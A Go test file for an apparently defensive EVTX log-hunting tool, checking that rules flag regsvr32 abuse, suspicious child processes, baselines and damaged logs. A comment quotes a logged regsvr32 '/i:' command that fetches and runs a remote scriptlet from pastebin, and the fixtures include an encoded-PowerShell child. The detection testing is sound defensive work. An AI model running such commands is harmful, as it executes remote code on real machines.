package triage

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/internal/winpath"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
)

// Built-in rule ids the issue names.
const (
	ruleSeed     = "ce2c44b5-a6ac-412a-afba-9e89326fa972"
	ruleCARMain  = "e23771a3-d2bc-4535-9b97-ab6769c1a38d"
	ruleCARChild = "bc399179-15fa-4ca9-a55b-d46b526bf897"
	ruleCARLoad  = "8537fa9f-c8d8-4530-81bc-1b4db643e582"
)

var issueRules = map[string]string{ruleSeed: "seed", ruleCARMain: "car-main", ruleCARChild: "car-child", ruleCARLoad: "car-unsigned"}

// builtin loads the built-in pack, failing on rejections.
func builtin(t testing.TB) *rules.Set {
	t.Helper()
	set := rules.Load(rules.LoadOptions{})
	if rj := set.Rejected(); len(rj) > 0 {
		t.Fatalf("built-in rules rejected: %v", rj)
	}
	return set
}

// describe renders a finding of one of the issue's rules as
// "rule file#record [suppressed…]".
func describe(f *Finding) string {
	s := fmt.Sprintf("%s %s#%d", issueRules[f.Rule.ID], filepath.Base(f.Event.File), f.Event.Event.RecordID)
	if len(f.Suppressed) > 0 {
		sup := append([]string(nil), f.Suppressed...)
		sort.Strings(sup)
		s += " suppressed:" + strings.Join(sup, ",")
	}
	return s
}

// TestHuntSharedLogs: what the seed rule and the three CAR rules must
// report on ../shared/evtx, read off the events with evtxexport -f xml:
//
//   - sysmon_regsvr32_sct.evtx #16792: Sysmon 1, Image
//     C:\Windows\System32\regsvr32.exe, CommandLine "regsvr32.exe  /u /s
//     /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll", CurrentDirectory
//     C:\Users\IEUser\. Seed: selection_image and " /s " match, but " /i:"
//     (and "/u ") hit filter_main_other_flags: suppressed, not reported.
//   - same file #16793: Sysmon 1, cmd.exe with ParentImage
//     C:\Windows\System32\regsvr32.exe: CAR main (parent ends in
//     regsvr32.exe, image is not regsvr32) and CAR children (System32
//     regsvr32 parent, child not regsvr32/WerFault/wevtutil).
//   - sysmon_bitsjob_notifycmdline.evtx #17287: regsvr32 "/u /s
//     /i:https://…calc.sct scrobj.dll" in C:\Windows\system32\: seed hidden
//     by filter_main_other_flags and filter_main_paths (CurrentDirectory).
//     Its parent is svchost, and no process has regsvr32 as parent.
//   - No file has a Sysmon 7 whose Image is regsvr32 (CAR unsigned), the
//     renamed copy (jabber.exe, no OriginalFileName) matches no image
//     selection, and the Security logs hold no regsvr32.
func TestHuntSharedLogs(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
	h := NewHunter(Options{Rules: builtin(t)})
	for _, f := range files {
		if err := h.AddFile(context.Background(), f, nil); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	res := h.Result()
	var got []string
	for _, f := range res.Findings {
		if issueRules[f.Rule.ID] != "" {
			got = append(got, describe(f))
		}
	}
	want := []string{
		"seed sysmon_regsvr32_sct.evtx#16792 suppressed:filter_main_other_flags",
		"car-main sysmon_regsvr32_sct.evtx#16793",
		"car-child sysmon_regsvr32_sct.evtx#16793",
		"seed sysmon_bitsjob_notifycmdline.evtx#17287 suppressed:filter_main_other_flags,filter_main_paths",
	}
	sort.Strings(got)
	sort.Strings(want)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The CAR findings sit on cmd.exe 1912 under regsvr32 1420.
	for _, f := range res.Written() {
		if f.Rule.ID != ruleCARMain {
			continue
		}
		var names []string
		for _, p := range Lineage(f.Process) {
			names = append(names, fmt.Sprintf("%s(%d)", winpath.Base(p.Image), p.PID))
		}
		if got := strings.Join(names, ">"); got != "cmd.exe(3528)>regsvr32.exe(1420)>cmd.exe(1912)" {
			t.Errorf("lineage %s", got)
		}
		if len(f.Match) == 0 {
			t.Error("no match explanation")
		}
	}
	total := 0
	for _, s := range res.Sources {
		total += s.Records
		if len(s.SHA256) != 64 {
			t.Errorf("%s: sha256 %q", s.Path, s.SHA256)
		}
	}
	if total != res.Events {
		t.Errorf("sources hold %d records, result %d events", total, res.Events)
	}
}

// TestFinish: Finish gives what Result gives, then refuses input.
func TestFinish(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
	set := builtin(t)
	a, b := NewHunter(Options{Rules: set}), NewHunter(Options{Rules: set})
	for _, f := range files {
		_ = a.AddFile(context.Background(), f, nil)
		_ = b.AddFile(context.Background(), f, nil)
	}
	ra, rb := a.Result(), b.Finish()
	if render(ra) != render(rb) || len(ra.Findings) != len(rb.Findings) || ra.Events != rb.Events || ra.ActivityOnly != rb.ActivityOnly {
		t.Errorf("Finish differs from Result:\n%s\n%s", render(ra), render(rb))
	}
	if b.Result() != rb {
		t.Error("Result after Finish is not the finished result")
	}
	if err := b.AddFile(context.Background(), files[0], nil); !errors.Is(err, ErrFinished) {
		t.Errorf("AddFile after Finish: %v", err)
	}
}

// TestLeanOptions: WrittenOnly and NoActivity change what is kept, not what
// is reported as written nor what is counted.
func TestLeanOptions(t *testing.T) {
	shared := sharedDir(t)
	set := builtin(t)
	run := func(o Options) *Result {
		o.Rules = set
		h := NewHunter(o)
		for _, f := range []string{"sysmon_regsvr32_sct.evtx", "sysmon_bitsjob_notifycmdline.evtx", "sysmon_uacme_64.evtx"} {
			if err := h.AddFile(context.Background(), filepath.Join(shared, "evtx", f), nil); err != nil {
				t.Fatal(err)
			}
		}
		return h.Finish()
	}
	full := run(Options{AllActivity: true})
	summary := func(r *Result) (written []string, seen, kept int) {
		for _, f := range r.Written() {
			written = append(written, fmt.Sprintf("%s#%d", f.Rule.ID, f.Event.Event.RecordID))
		}
		for _, p := range r.Processes {
			seen += p.Seen.Total()
			kept += p.Kept().Total()
		}
		for _, h := range r.ActivityOnlyHosts() {
			for _, p := range r.ActivityOnlyProcesses(h.Host) {
				seen += p.Seen.Total()
			}
		}
		return written, seen, kept
	}
	fw, fseen, fkept := summary(full)
	if fkept == 0 {
		t.Fatal("full run kept no activity")
	}
	tests := []struct {
		name string
		opts Options
	}{
		{"written only", Options{WrittenOnly: true}},
		{"no activity overrides all activity", Options{NoActivity: true, AllActivity: true}},
		{"both", Options{WrittenOnly: true, NoActivity: true}},
	}
	for _, tc := range tests {
		r := run(tc.opts)
		w, seen, kept := summary(r)
		if strings.Join(w, " ") != strings.Join(fw, " ") || seen != fseen {
			t.Errorf("%s: written %v seen %d, want %v %d", tc.name, w, seen, fw, fseen)
		}
		if tc.opts.WrittenOnly && (len(r.Findings) != len(fw) || r.Unkept != len(full.Findings)-len(fw)) {
			t.Errorf("%s: %d findings, %d unkept; full run has %d findings, %d written", tc.name, len(r.Findings), r.Unkept, len(full.Findings), len(fw))
		}
		if tc.opts.NoActivity && kept >= fkept {
			t.Errorf("%s: kept %d activity events, full run %d", tc.name, kept, fkept)
		}
	}
}

// TestHuntRenamedRegsvr32 marks the copy of regsvr32 run as jabber.exe.
func TestHuntRenamedRegsvr32(t *testing.T) {
	h := NewHunter(Options{Rules: builtin(t)})
	if err := h.AddFile(context.Background(), filepath.Join(sharedDir(t), "evtx", "sysmon_renamed_regsvr32_scrobj.evtx"), nil); err != nil {
		t.Fatal(err)
	}
	var marked []string
	for _, p := range h.Result().Processes {
		if p.Regsvr32 {
			marked = append(marked, fmt.Sprintf("%s renamed=%v", p.Image, p.Renamed))
		}
	}
	if got := strings.Join(marked, ";"); got != `C:\ProgramData\jabber.exe renamed=true` {
		t.Errorf("regsvr32 nodes: %s", got)
	}
}

// TestHuntDuplicates reads the same log twice: every record is dropped once
// as a duplicate and nothing is reported twice.
func TestHuntDuplicates(t *testing.T) {
	path := filepath.Join(sharedDir(t), "evtx", "sysmon_regsvr32_sct.evtx")
	once := NewHunter(Options{Rules: builtin(t)})
	twice := NewHunter(Options{Rules: builtin(t)})
	ctx := context.Background()
	if err := once.AddFile(ctx, path, nil); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"a.evtx", "copy/a.evtx"} {
		if err := twice.AddReader(ctx, name, bytes.NewReader(data), int64(len(data)), nil); err != nil {
			t.Fatal(err)
		}
	}
	r1, r2 := once.Result(), twice.Result()
	if r2.Duplicates != r1.Events || r2.Events != 2*r1.Events {
		t.Errorf("events %d duplicates %d, want %d and %d", r2.Events, r2.Duplicates, 2*r1.Events, r1.Events)
	}
	if len(r2.Findings) != len(r1.Findings) || len(r2.Processes) != len(r1.Processes) {
		t.Errorf("findings %d processes %d, want %d %d", len(r2.Findings), len(r2.Processes), len(r1.Findings), len(r1.Processes))
	}
}

// TestHuntSameRecordIDDistinctEvents: a (crafted) log reusing one
// EventRecordID for different events loses none of them.
func TestHuntSameRecordIDDistinctEvents(t *testing.T) {
	path := filepath.Join(t.TempDir(), "same-id.evtx")
	writeLog(t, path, []*parser.Event{
		s1("WS1", 7, at(1), 10, 1010, sys32Reg, 9, 1009, sys32Cmd),
		s1("WS1", 7, at(2), 11, 1011, sys32Cmd, 10, 1010, sys32Reg),
		s1("WS1", 7, at(2), 11, 1011, sys32Cmd, 10, 1010, sys32Reg), // a true copy
	})
	h := NewHunter(Options{Rules: builtin(t)})
	if err := h.AddFile(context.Background(), path, nil); err != nil {
		t.Fatal(err)
	}
	res := h.Result()
	if res.Events != 3 || res.Duplicates != 1 || len(res.Processes) != 3 {
		t.Errorf("events %d duplicates %d processes %d, want 3 1 3", res.Events, res.Duplicates, len(res.Processes))
	}
}

// TestHuntCountsCarvedCopies: a carved copy of a live record, which the
// parser drops, counts among the hunt's duplicates (not among the events
// read: it was never delivered).
func TestHuntCountsCarvedCopies(t *testing.T) {
	path := filepath.Join(t.TempDir(), "slack.evtx")
	writeLog(t, path, []*parser.Event{
		s1("WS1", 1, at(1), 10, 1010, sys32Reg, 9, 1009, sys32Cmd),
		s1("WS1", 2, at(2), 11, 1011, sys32Cmd, 10, 1010, sys32Reg),
	})
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// Copy the second record (it refers to the template the first
	// defines) into the chunk's slack, after its free-space offset: what a
	// reused chunk buffer leaves behind.
	const chunk, header = 0x1000, 0x200
	le := binary.LittleEndian
	free := int(le.Uint32(data[chunk+0x30:]))
	second := header + int(le.Uint32(data[chunk+header+4:]))
	size := int(le.Uint32(data[chunk+second+4:]))
	copy(data[chunk+free:], data[chunk+second:chunk+second+size])
	for _, carve := range []bool{true, false} {
		h := NewHunter(Options{Rules: builtin(t), NoCarve: !carve})
		if err := h.AddReader(context.Background(), "slack.evtx", bytes.NewReader(data), int64(len(data)), nil); err != nil {
			t.Fatal(err)
		}
		res := h.Finish()
		want := 0
		if carve {
			want = 1
		}
		if res.Events != 2 || res.Duplicates != want || len(res.Processes) != 3 || res.Sources[0].Recovered != 0 {
			t.Errorf("carve=%v: events %d duplicates %d processes %d recovered %d", carve, res.Events, res.Duplicates,
				len(res.Processes), res.Sources[0].Recovered)
		}
	}
}

// writeLog writes events to an .evtx file with the project's writer.
func writeLog(t testing.TB, path string, evs []*parser.Event) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := parser.NewWriter(f)
	for _, e := range evs {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

const (
	sys32Reg = `C:\Windows\System32\regsvr32.exe`
	sys32Cmd = `C:\Windows\System32\cmd.exe`
	psPath   = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
)

// child makes a Sysmon 1 of a process started by regsvr32 guid pg on day d.
func child(rec uint64, d, g int, image, cmdline string, pg int) *parser.Event {
	e := s1("WS1", rec, t0.Add(time.Duration(d)*24*time.Hour), g, 1000+g, image, pg, 1000+pg, sys32Reg)
	for i := range e.Fields {
		if e.Fields[i].Name == "CommandLine" {
			e.Fields[i].Value = cmdline
		}
	}
	return e
}

// day returns t0 plus d days.
func day(d int) time.Time { return t0.Add(time.Duration(d) * 24 * time.Hour) }

// month returns two logs: day 1 (regsvr32 → cmd whoami) and day 35
// (regsvr32 → cmd whoami again, and → powershell -enc).
func month(t *testing.T) (early, late string) {
	dir := t.TempDir()
	early, late = filepath.Join(dir, "early.evtx"), filepath.Join(dir, "late.evtx")
	writeLog(t, early, []*parser.Event{
		s1("WS1", 1, day(1), 10, 1010, sys32Reg, 9, 1009, sys32Cmd),
		child(2, 1, 11, sys32Cmd, "cmd /c whoami", 10),
	})
	writeLog(t, late, []*parser.Event{
		s1("WS1", 3, day(35), 20, 1020, sys32Reg, 9, 1009, sys32Cmd),
		child(4, 35, 21, sys32Cmd, "CMD /c WHOAMI", 20),
		child(5, 35, 22, psPath, "powershell -enc AAAA", 20),
	})
	return early, late
}

// verdicts renders CAR-main findings as "record:new|seen|-".
func verdicts(res *Result) string {
	var out []string
	for _, f := range res.Written() {
		if f.Rule.ID != ruleCARMain {
			continue
		}
		v := "-"
		if f.New != nil {
			v = map[bool]string{true: "new", false: "seen"}[*f.New]
		}
		out = append(out, fmt.Sprintf("%d:%s", f.Event.Event.RecordID, v))
	}
	return strings.Join(out, " ")
}

func TestBaseline(t *testing.T) {
	early, late := month(t)
	set := builtin(t)
	ctx := context.Background()
	// An export of the early log, in both formats.
	eh := NewHunter(Options{Rules: set})
	if err := eh.AddFile(ctx, early, nil); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	jsonExport, jsonlExport := filepath.Join(dir, "early.json"), filepath.Join(dir, "early.jsonl")
	exportFile(t, jsonExport, eh.Result(), FormatJSON)
	exportFile(t, jsonlExport, eh.Result(), FormatJSONL)
	oldExport := filepath.Join(dir, "early-0.1.jsonl")
	writeOldExport(t, oldExport, jsonExport)
	tests := []struct {
		name  string
		opts  Options
		files []string
		want  string
	}{
		{"not judged", Options{}, []string{early, late}, "2:- 4:- 5:-"},
		{"window: first 30 days are the baseline", Options{BaselineWindow: 30 * 24 * time.Hour}, []string{early, late}, "2:- 4:seen 5:new"},
		{"window covering everything judges nothing", Options{BaselineWindow: 60 * 24 * time.Hour}, []string{early, late}, "2:- 4:- 5:-"},
		{"window by parent-child", Options{BaselineWindow: 30 * 24 * time.Hour, NewKey: KeyParentChild}, []string{early, late}, "2:- 4:seen 5:new"},
		{"window by image-loaded: process creations have no key", Options{BaselineWindow: 30 * 24 * time.Hour, NewKey: KeyImageLoaded}, []string{early, late}, "2:- 4:- 5:-"},
		{"baseline log", Options{Baseline: []string{early}}, []string{late}, "4:seen 5:new"},
		{"baseline folder", Options{Baseline: []string{filepath.Dir(early)}}, []string{late}, "4:seen 5:seen"},
		{"baseline json export", Options{Baseline: []string{jsonExport}}, []string{late}, "4:seen 5:new"},
		{"baseline jsonl export", Options{Baseline: []string{jsonlExport}}, []string{late}, "4:seen 5:new"},
		{"baseline export by parent-child", Options{Baseline: []string{jsonlExport}, NewKey: KeyParentChild}, []string{late}, "4:seen 5:new"},
		{"baseline export of the earlier shape", Options{Baseline: []string{oldExport}}, []string{late}, "4:seen 5:new"},
		{"baseline earlier shape by parent-child", Options{Baseline: []string{oldExport}, NewKey: KeyParentChild}, []string{late}, "4:seen 5:new"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.opts.Rules = set
			h := NewHunter(tc.opts)
			if err := h.LoadBaseline(ctx); err != nil {
				t.Fatal(err)
			}
			for _, f := range tc.files {
				if err := h.AddFile(ctx, f, nil); err != nil {
					t.Fatal(err)
				}
			}
			if got := verdicts(h.Result()); got != tc.want {
				t.Errorf("verdicts %q, want %q", got, tc.want)
			}
		})
	}
}

func TestBaselineBadInputs(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(bad, []byte(`{"findings": [{"rule": 3}]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	empty := filepath.Join(dir, "empty.jsonl")
	if err := os.WriteFile(empty, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	notLog := filepath.Join(dir, "not-a-log.evtx")
	if err := os.WriteFile(notLog, []byte("hello"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, late := month(t)
	for _, p := range []string{bad, empty, filepath.Join(dir, "missing.jsonl"), filepath.Join(dir, "missing-dir"), notLog} {
		h := NewHunter(Options{Rules: builtin(t), Baseline: []string{p}})
		err := h.LoadBaseline(context.Background())
		if !errors.Is(err, ErrBaseline) {
			t.Errorf("%s: error %v, want ErrBaseline", filepath.Base(p), err)
		}
		if err := h.AddFile(context.Background(), late, nil); err != nil {
			t.Fatal(err)
		}
		res := h.Result()
		if !res.Partial() {
			t.Errorf("%s: result not partial", filepath.Base(p))
		}
		// Nothing is judged against a baseline that could not be read:
		// "new" would be a guess.
		if got := verdicts(res); got != "4:- 5:-" || !res.NotJudged {
			t.Errorf("%s: verdicts %q (not judged: %v), want none", filepath.Base(p), got, res.NotJudged)
		}
	}
}

func TestFilter(t *testing.T) {
	early, late := month(t)
	dir := filepath.Dir(early)
	// Add a regsvr32 that loads an unsigned DLL and one the seed rule hides.
	extra := filepath.Join(dir, "extra.evtx")
	writeLog(t, extra, []*parser.Event{
		s1("WS2", 1, day(50), 30, 1030, sys32Reg, 9, 1009, sys32Cmd, "CurrentDirectory", `C:\Users\u\`),
		s7("WS2", 2, day(50).Add(time.Second), 30, 1030, sys32Reg, `C:\Users\u\AppData\x.dll`, "false"),
	})
	h := NewHunter(Options{Rules: builtin(t), BaselineWindow: 30 * 24 * time.Hour})
	for _, f := range []string{early, late, extra} {
		if err := h.AddFile(context.Background(), f, nil); err != nil {
			t.Fatal(err)
		}
	}
	res := h.Result()
	count := func(f Filter) string {
		var out []string
		for _, x := range res.Filter(f) {
			if name := issueRules[x.Rule.ID]; name != "" {
				out = append(out, fmt.Sprintf("%s#%s%d", name, x.Event.Event.Computer, x.Event.Event.RecordID))
			}
		}
		return strings.Join(out, " ")
	}
	all := "car-main#WS12 car-child#WS12 car-main#WS14 car-child#WS14 car-main#WS15 car-child#WS15 car-unsigned#WS22"
	tests := []struct {
		name string
		f    Filter
		want string
	}{
		{"zero filter: as written", Filter{}, all},
		{"min level medium", Filter{MinLevel: rules.LevelMedium}, "car-child#WS12 car-child#WS14 car-child#WS15 car-unsigned#WS22"},
		{"rule off", Filter{DisabledRules: map[string]bool{ruleCARChild: true, ruleCARMain: true}}, "car-unsigned#WS22"},
		{"host", Filter{Host: "ws2"}, "car-unsigned#WS22"},
		{"new only", Filter{NewOnly: true}, "car-main#WS15 car-child#WS15 car-unsigned#WS22"},
		{"unsigned only", Filter{UnsignedOnly: true}, "car-unsigned#WS22"},
		{"security only", Filter{Sources: FromSecurity}, ""},
		{"time window", Filter{From: day(40), To: day(60)}, "car-unsigned#WS22"},
		{"time window closed", Filter{From: day(2), To: day(35)}, "car-main#WS14 car-child#WS14 car-main#WS15 car-child#WS15"},
		{"switching a filter off keeps what it did not hide", Filter{DisabledIdents: map[string]map[string]bool{ruleCARLoad: {"filter_car_paths": true}}}, all},
	}
	for _, tc := range tests {
		if got := count(tc.f); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
		}
	}
}

// TestFilterRevealsSuppressed switches the seed rule's filters off on the
// shared logs: a suppressed candidate shows once all its filters are off.
func TestFilterRevealsSuppressed(t *testing.T) {
	shared := sharedDir(t)
	h := NewHunter(Options{Rules: builtin(t)})
	for _, f := range []string{"sysmon_regsvr32_sct.evtx", "sysmon_bitsjob_notifycmdline.evtx"} {
		if err := h.AddFile(context.Background(), filepath.Join(shared, "evtx", f), nil); err != nil {
			t.Fatal(err)
		}
	}
	res := h.Result()
	seeds := func(off ...string) string {
		m := map[string]bool{}
		for _, o := range off {
			m[o] = true
		}
		var out []string
		for _, f := range res.Filter(Filter{DisabledIdents: map[string]map[string]bool{ruleSeed: m}}) {
			if f.Rule.ID == ruleSeed {
				out = append(out, fmt.Sprint(f.Event.Event.RecordID))
			}
		}
		return strings.Join(out, " ")
	}
	tests := []struct {
		off  []string
		want string
	}{
		{nil, ""},
		{[]string{"filter_main_other_flags"}, "16792"},
		{[]string{"filter_main_paths"}, ""},
		{[]string{"filter_main_other_flags", "filter_main_paths"}, "16792 17287"},
		{[]string{"filter_main_other_flags", "filter_main_paths", "selection_cmdline"}, ""},
	}
	for _, tc := range tests {
		if got := seeds(tc.off...); got != tc.want {
			t.Errorf("off %v: %q, want %q", tc.off, got, tc.want)
		}
	}
}

// TestHuntHostileInput: garbage, truncation and an empty file are reported,
// never fatal.
func TestHuntHostileInput(t *testing.T) {
	good, err := os.ReadFile(filepath.Join(sharedDir(t), "evtx", "sysmon_regsvr32_sct.evtx"))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		data    []byte
		wantErr error
		format  bool // the problems are the parser's FormatErrors
	}{
		{"empty", nil, ErrOpen, false},
		{"not evtx", bytes.Repeat([]byte("MZ garbage "), 1000), ErrOpen, false},
		{"truncated mid chunk", good[:0x1000+3000], ErrRead, true},
	}
	for _, tc := range tests {
		h := NewHunter(Options{Rules: builtin(t)})
		err := h.AddReader(context.Background(), tc.name, bytes.NewReader(tc.data), int64(len(tc.data)), nil)
		if !errors.Is(err, tc.wantErr) {
			t.Errorf("%s: error %v, want %v", tc.name, err, tc.wantErr)
		}
		res := h.Result()
		if len(res.Sources) != 1 || len(res.Sources[0].Problems) == 0 || !res.Partial() {
			t.Errorf("%s: sources %+v", tc.name, res.Sources)
		}
		for _, p := range res.Sources[0].Problems {
			// A problem carries its error: the parser's FormatError at the
			// problem's offset for damage, ErrNotEVTX when not a log at all.
			var fe *parser.FormatError
			isFormat := errors.As(p.Err, &fe) && fe.Offset == p.Offset
			if isFormat != tc.format || (!tc.format && tc.data != nil && !errors.Is(p.Err, parser.ErrNotEVTX)) {
				t.Errorf("%s: problem %v carries %#v", tc.name, p, p.Err)
			}
		}
	}
}

func TestProgress(t *testing.T) {
	var last Progress
	calls := 0
	h := NewHunter(Options{})
	path := filepath.Join(sharedDir(t), "evtx", "sysmon_uacme_64.evtx")
	if err := h.AddFile(context.Background(), path, func(p Progress) { last = p; calls++ }); err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(path)
	if !last.Done || last.Total != fi.Size() || last.Events != h.Result().Events || calls == 0 {
		t.Errorf("last progress %+v after %d calls", last, calls)
	}
}

func TestHashOf(t *testing.T) {
	data := bytes.Repeat([]byte("evtx"), 700000) // more than one read buffer
	want := fmt.Sprintf("%x", sha256.Sum256(data))
	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	tests := []struct {
		name string
		ctx  context.Context
		size int64
		want string
	}{
		{"whole", context.Background(), int64(len(data)), want},
		{"empty", context.Background(), 0, fmt.Sprintf("%x", sha256.Sum256(nil))},
		{"size beyond the data", context.Background(), int64(len(data)) + 1, ""},
		{"cancelled", cancelled, int64(len(data)), ""},
	}
	for _, tc := range tests {
		if got := hashOf(tc.ctx, bytes.NewReader(data), tc.size); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
		}
	}
}

// TestBaselineWindowNoTime: an event without a time is neither part of the
// --baseline-window period nor judged after it, and exports a null time.
func TestBaselineWindowNoTime(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "notime.evtx")
	untimed := child(3, 0, 12, sys32Cmd, "cmd /c whoami", 10)
	untimed.Time = time.Time{}
	writeLog(t, log, []*parser.Event{
		s1("WS1", 1, day(1), 10, 1010, sys32Reg, 9, 1009, sys32Cmd),
		child(2, 1, 11, sys32Cmd, "cmd /c dir", 10),
		untimed,
		child(4, 35, 13, sys32Cmd, "cmd /c whoami", 10), // new: the untimed one is no baseline
	})
	h := NewHunter(Options{Rules: builtin(t), BaselineWindow: 30 * 24 * time.Hour})
	if err := h.AddFile(context.Background(), log, nil); err != nil {
		t.Fatal(err)
	}
	res := h.Result()
	if got := verdicts(res); got != "3:- 2:- 4:new" { // the untimed event sorts first
		t.Errorf("verdicts %q, want 3:- 2:- 4:new", got)
	}
	var b bytes.Buffer
	if err := WriteExport(&b, res, res.Written(), FormatJSONL); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"record_id":3,"event_id":1,"channel":"Microsoft-Windows-Sysmon/Operational","provider":"Microsoft-Windows-Sysmon","computer":"WS1","time":null`) {
		t.Errorf("untimed event's time not null:\n%s", b.String())
	}
}

// TestSnapshot: Snapshot builds a new Result only when enough new events
// came (at least snapshotMin and half of what the last one covered), and
// after Finish returns the final Result.
func TestSnapshot(t *testing.T) {
	h := NewHunter(Options{})
	n := 0
	feed := func(k int) {
		var buf []rules.Match
		for i := 0; i < k; i++ {
			n++
			buf = h.consume(buf, "t.evtx", s1("H", uint64(n), at(n), n, 4*n, `C:\x.exe`, 0, 0, ""))
		}
	}
	feed(100)
	first := h.Snapshot()
	if first == nil || first.Events != 100 {
		t.Fatal("no first snapshot of the 100 events")
	}
	steps := []struct {
		add  int
		want int // events of the snapshot returned
	}{
		{100, 100},                              // too few new events: the last one
		{snapshotMin, 200 + snapshotMin},        // enough: built
		{snapshotMin, 200 + 2*snapshotMin},      // at least half of the last one's: built
		{4 * snapshotMin, 200 + 6*snapshotMin},  // built
		{snapshotMin, 200 + 6*snapshotMin},      // less than half: the last one
		{3 * snapshotMin, 200 + 10*snapshotMin}, // built
	}
	for i, s := range steps {
		feed(s.add)
		if got := h.Snapshot().Events; got != s.want {
			t.Errorf("step %d: snapshot of %d events, want %d", i, got, s.want)
		}
	}
	final := h.Finish()
	if h.Snapshot() != final || final.Events != n || h.Result() != final {
		t.Errorf("after Finish: snapshot %p, final %p of %d events, read %d", h.Snapshot(), final, final.Events, n)
	}
}

// TestFinishReleases: after Finish the hunter holds nothing it kept for
// reading (duplicate set, records, tables, string index, matches), while
// Result still gives the final Result.
func TestFinishReleases(t *testing.T) {
	h := NewHunter(Options{Rules: builtin(t)})
	if err := h.AddFile(context.Background(), filepath.Join(sharedDir(t), "evtx", "sysmon_regsvr32_sct.evtx"), nil); err != nil {
		t.Fatal(err)
	}
	if h.seen.n == 0 || h.guids == nil || h.procEvents.recs.n == 0 || len(h.matches) == 0 {
		t.Fatal("nothing kept while reading")
	}
	res := h.Finish()
	if h.seen.n != 0 || h.guids != nil || h.procEvents.recs.n != 0 || h.procEvents.creates.n != 0 ||
		h.strs.ids != nil || h.activity != nil || h.matches != nil || h.feeds != nil {
		t.Errorf("kept after Finish: %d records seen, guids %v, %d process records, index %v, %d activity, %d matches",
			h.seen.n, h.guids != nil, h.procEvents.recs.n, h.strs.ids != nil, len(h.activity), len(h.matches))
	}
	if h.Result() != res || len(res.Findings) == 0 {
		t.Error("the final Result is gone")
	}
}

// TestBaselineSpan: a Result says what time the baseline covers and which
// hosts it names: the window from the evidence's first event, or the
// earliest and latest events of the --baseline logs or export; and the
// evidence's own first and last event times.
func TestBaselineSpan(t *testing.T) {
	early, late := month(t)
	set := builtin(t)
	ctx := context.Background()
	eh := NewHunter(Options{Rules: set})
	if err := eh.AddFile(ctx, early, nil); err != nil {
		t.Fatal(err)
	}
	er := eh.Finish()
	export := filepath.Join(t.TempDir(), "early.json")
	exportFile(t, export, er, FormatJSON)
	var exFirst, exLast time.Time // the findings' events bound an export
	for _, f := range er.Findings {
		if at := f.Event.Event.Time; exFirst.IsZero() || at.Before(exFirst) {
			exFirst = at
		}
		if at := f.Event.Event.Time; at.After(exLast) {
			exLast = at
		}
	}
	const window = 30 * 24 * time.Hour
	tests := []struct {
		name     string
		opts     Options
		files    []string
		from, to func(r *Result) time.Time
		hosts    []string
	}{
		{"window", Options{BaselineWindow: window}, []string{early, late},
			func(r *Result) time.Time { return r.First }, func(r *Result) time.Time { return r.First.Add(window) }, nil},
		{"log", Options{Baseline: []string{early}}, []string{late},
			func(*Result) time.Time { return er.First }, func(*Result) time.Time { return er.Last }, er.Hosts},
		{"export", Options{Baseline: []string{export}}, []string{late},
			func(*Result) time.Time { return exFirst }, func(*Result) time.Time { return exLast }, er.Hosts},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.opts.Rules = set
			h := NewHunter(tc.opts)
			for _, f := range tc.files {
				if err := h.AddFile(ctx, f, nil); err != nil {
					t.Fatal(err)
				}
			}
			r := h.Finish()
			if r.First.IsZero() || r.Last.Before(r.First) {
				t.Errorf("evidence spans %v – %v", r.First, r.Last)
			}
			if !r.BaselineFrom.Equal(tc.from(r)) || !r.BaselineTo.Equal(tc.to(r)) {
				t.Errorf("baseline spans %v – %v, want %v – %v", r.BaselineFrom, r.BaselineTo, tc.from(r), tc.to(r))
			}
			if strings.Join(r.BaselineHosts, ",") != strings.Join(tc.hosts, ",") {
				t.Errorf("baseline hosts %v, want %v", r.BaselineHosts, tc.hosts)
			}
		})
	}
}
